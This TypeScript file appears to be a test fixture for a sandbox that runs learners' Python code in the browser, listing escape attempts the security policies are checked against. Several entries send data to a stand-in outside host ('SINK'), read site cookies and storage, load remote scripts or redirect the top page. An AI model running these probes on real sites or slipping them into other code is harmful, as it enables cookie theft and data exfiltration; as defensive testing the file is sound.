/**
 * What a program could do that had got out of Python into JavaScript, which none does (`hostile-python.ts`): the policies must hold it too.
 * Each text is the body of an async function that answers something true when it reached anything. SINK stands for another server's
 * address, and API for one of the site's own.
 */
type Attempts = Readonly<Record<string, string>>;

/** Works in documents and in workers. */
const anywhere: Attempts = {
  'fetches from another server': 'return (await fetch("SINK", { mode: "no-cors" })).type',
  'sends to another server':
    'return (await fetch("SINK", { method: "POST", mode: "no-cors", keepalive: true, body: "x" })).type',
  'asks the API': 'return (await fetch("API")).ok',
  'asks the API with cookies':
    'return (await fetch("API", { credentials: "include", mode: "no-cors" })).type',
  'fetches a text as an address': 'return (await fetch("data:text/plain,x")).ok',
  'makes a request of the older kind':
    'const request = new XMLHttpRequest(); request.open("GET", "SINK", false); request.send(); return true',
  'opens a socket':
    'return new Promise((resolve, reject) => { const socket = new WebSocket("SINK".replace("http", "ws")); socket.onopen = resolve; socket.onerror = reject; })',
  'listens to events':
    'return new Promise((resolve, reject) => { const events = new EventSource("SINK"); events.onopen = resolve; events.onerror = reject; })',
  'opens a transport': 'await new WebTransport("SINK".replace("http:", "https:")).ready; return true',
  'imports a module': 'return import("SINK")',
  'imports a module of the site': 'return import("API")',
  'imports a text as a module': 'return import("data:text/javascript,export default 1")',
  'evaluates a text': 'return eval("1")',
  'makes a function of a text': 'return new Function("return 1")()',
  'makes an async function of a text': 'return (async () => undefined).constructor("return 1")()',
  'sets a timer with a text':
    'setTimeout("self.reached = true", 0); await new Promise((resolve) => setTimeout(resolve, 50)); return self.reached',
  'opens a database':
    'return new Promise((resolve, reject) => { const asked = indexedDB.open("x"); asked.onsuccess = resolve; asked.onerror = reject; })',
  'opens a cache': 'return caches.open("x")',
  'reads the list of caches': 'return caches.keys()',
  'reads a cookie': 'return (await cookieStore.getAll()).length',
  'opens the private file system': 'return navigator.storage.getDirectory()',
  'asks for room': 'return navigator.storage.persist()',
  'asks for a lock': 'return navigator.locks.request("x", () => true)',
  'speaks to other pages':
    'return new Promise((resolve, reject) => { const channel = new BroadcastChannel("northlight"); channel.onmessage = resolve; channel.postMessage("x"); setTimeout(reject, 100); })',
  'starts a worker from an address':
    'return new Promise((resolve, reject) => { const worker = new Worker("SINK"); worker.onmessage = resolve; worker.onerror = reject; setTimeout(reject, 500); })',
  'starts a worker from a text':
    'return new Promise((resolve, reject) => { const worker = new Worker("data:text/javascript,postMessage(1)"); worker.onmessage = resolve; worker.onerror = reject; })',
  'starts a worker that asks the API':
    'const text = "fetch(`API`).then(({ ok }) => postMessage(ok), () => postMessage(false))"; return new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = ({ data }) => resolve(data); worker.onerror = reject; })',
  'asks for permission to notify': 'return (await Notification.requestPermission()) === "granted"',
  'registers a service worker': 'return navigator.serviceWorker.register("SINK")',
};

/** Only in the worker, where Python runs. */
const inWorker: Attempts = {
  'imports a script': 'importScripts("SINK"); return true',
  'imports a script of the site': 'importScripts("API"); return true',
  'goes elsewhere':
    'self.location = "SINK"; await new Promise((resolve) => setTimeout(resolve, 50)); return self.location.href.startsWith("http:")',
  'looks for a window': 'return typeof window !== "undefined" || typeof document !== "undefined"',
  'looks for storage': 'return self.localStorage || self.sessionStorage',
  'is not alone in its origin': 'return self.origin !== "null"',
};

const element = (name: string, attributes: string): string =>
  `const made = Object.assign(document.createElement("${name}"), ${attributes}); return new Promise((resolve, reject) => { made.onload = resolve; made.onerror = reject; document.documentElement.append(made); setTimeout(reject, 300); })`;

/** Only in the document around the worker. */
const inDocument: Attempts = {
  'reads the cookies of the site': 'return document.cookie',
  'reads what the site stores': 'return localStorage.length >= 0',
  'reads what the site stores for a visit': 'return sessionStorage.length >= 0',
  'reads the page': 'return parent.document.title',
  'reads the address of the page': 'return parent.location.href',
  'reads the address of the topmost page': 'return top.location.pathname',
  'reads the storage of the page': 'return parent.localStorage',
  'calls a function of the page': 'return parent.fetch("API")',
  'has an element in the page': 'return frameElement',
  'leads the page elsewhere': 'top.location.href = "SINK"; return false',
  'leads the page elsewhere by a link':
    'Object.assign(document.createElement("a"), { href: "SINK", target: "_top" }).click(); return false',
  'opens a window': 'return window.open("SINK")',
  'opens a window by a link':
    'Object.assign(document.createElement("a"), { href: "SINK", target: "_blank" }).click(); return false',
  'opens a dialog': 'return confirm("x")',
  'shows an image': element('img', '{ src: "SINK" }'),
  'runs a script': element('script', '{ src: "SINK" }'),
  'runs its own script':
    'document.documentElement.append(Object.assign(document.createElement("script"), { textContent: "self.inline = true" })); return self.inline',
  'takes a style': element('link', '{ rel: "stylesheet", href: "SINK" }'),
  'fetches ahead': element('link', '{ rel: "prefetch", href: "SINK" }'),
  'loads ahead': element('link', '{ rel: "preload", as: "script", href: "SINK" }'),
  'shows a page': element('iframe', '{ src: "SINK" }').replace('made.onload = resolve;', ''),
  'plays a sound': element('audio', '{ src: "SINK", preload: "auto" }'),
  'embeds an object': element('object', '{ data: "SINK", type: "text/html" }'),
  'sends a beacon': 'navigator.sendBeacon("SINK", "x"); return false',
  'sends a form':
    'const form = Object.assign(document.createElement("form"), { action: "SINK", method: "post", target: "_top" }); document.documentElement.append(form); form.submit(); return false',
  'sets the base of addresses':
    'document.head.append(Object.assign(document.createElement("base"), { href: "SINK" })); return document.baseURI.startsWith("SINK")',
  'uses the clipboard': 'return navigator.clipboard.readText()',
  'asks where the learner is':
    'return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
  'asks for the camera': 'return navigator.mediaDevices.getUserMedia({ video: true })',
};

/** What is tried in the worker, by title. */
export const workerAttempts: Attempts = { ...anywhere, ...inWorker };
/** What is tried in the frame's document, by title. */
export const documentAttempts: Attempts = { ...anywhere, ...inDocument };
